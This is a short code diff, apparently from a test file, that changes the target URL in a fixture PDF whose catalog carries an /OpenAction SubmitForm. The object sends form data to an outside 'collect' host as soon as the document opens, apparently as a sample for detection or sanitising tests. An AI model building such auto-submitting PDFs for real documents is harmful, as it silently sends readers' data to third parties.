@@ -29,7 +29,7 @@ import { richText } from './rich-text.ts'
 const submits = () =>
   pdfOfObjects({
     objects: [
-      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (http://203.0.113.4/inert) >> >> >>',
+      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/inert) >> >> >>',
       '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
       '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
     ],
